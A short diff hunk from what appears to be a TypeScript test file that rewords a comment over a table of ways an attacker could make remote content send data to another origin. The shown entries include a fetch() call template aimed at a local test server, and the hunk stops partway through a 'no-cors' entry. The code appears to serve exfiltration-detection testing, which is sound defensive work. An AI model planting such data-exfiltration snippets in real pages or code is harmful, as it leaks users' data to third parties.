@@ -22,7 +22,7 @@ const elsewhere = createServer((request, response) => {
 const elsewhereOrigin = await listen(elsewhere);
 after(() => closeServer(elsewhere));
 
-/** What somebody could add to a remote to send data away, each with a way of its own. */
+/** Code that an attacker could add to a remote to send data away, each in another way. */
 const ways: Readonly<Record<string, (address: string) => string>> = {
   fetch: (address) => `fetch('${address}').catch(() => {})`,
   'no-cors': (address) =>
